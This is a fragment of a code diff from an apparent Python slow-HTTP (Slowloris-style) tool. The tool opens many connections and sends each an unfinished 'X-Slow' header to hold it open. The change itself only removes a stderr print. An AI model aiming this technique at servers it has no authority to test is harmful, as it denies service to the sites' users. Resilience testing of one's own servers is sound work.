@@ -12,7 +12,6 @@ def main(address: str, domain: str, connections: int, seconds: float) -> None:
     held = [connect(address, domain) for _ in range(connections)]
     for each in held:
         each.sendall(f"GET / HTTP/1.1\r\nHost: {domain}\r\nX-Slow: ".encode())
-    print("held", file=sys.stderr, flush=True)
     closed = set()
     end = time.monotonic() + seconds
     while time.monotonic() < end:
